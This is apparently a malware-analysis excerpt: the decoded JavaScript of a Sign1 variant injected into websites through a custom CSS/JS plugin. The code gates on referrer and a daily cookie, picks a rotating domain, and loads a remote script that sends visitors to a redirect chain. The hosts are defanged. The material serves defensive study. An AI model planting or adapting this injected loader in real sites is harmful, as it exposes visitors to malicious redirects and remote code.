// A later Sign1 generation as injected through the "Simple Custom CSS and JS" plugin, here as
// the decoded logic: the same referrer and once-a-day gates, a domain picked from a short list
// by the day and a script name made from the current ten-minute window; the script it loads
// sends the visitor on to the redirect chain.
(function (w, d) {
  var ref = d.referrer || "";
  var from = ["google.", "bing.", "yahoo.", "duckduckgo.", "facebook.", "instagram.", "t.co/", "twitter.", "pinterest.", "youtube."];
  var hit = false;
  for (var i = 0; i < from.length; i++) if (ref.indexOf(from[i]) !== -1) { hit = true; break; }
  if (!hit) return;
  if (/(^|; )_s1v=/.test(d.cookie) || w.localStorage.getItem("_s1v")) return;
  var exp = new Date(Date.now() + 24 * 36e5).toUTCString();
  d.cookie = "_s1v=" + Date.now() + "; expires=" + exp + "; path=/";
  w.localStorage.setItem("_s1v", "1");
  var hosts = ["sermonstats.invalid", "statscapturenet.invalid", "trafficstream-cdn.invalid", "opensearchlink.invalid"];
  var now = Math.floor(Date.now() / 1000);
  var slot = (now - (now % 600)).toString(16);
  var host = hosts[new Date().getUTCDate() % hosts.length];
  var src = "https://" + host + "/" + slot + ".js?ref=" + encodeURIComponent(ref);
  var s = d.createElement("script");
  s.src = src;
  s.async = true;
  (d.head || d.documentElement).appendChild(s);
})(window, document);
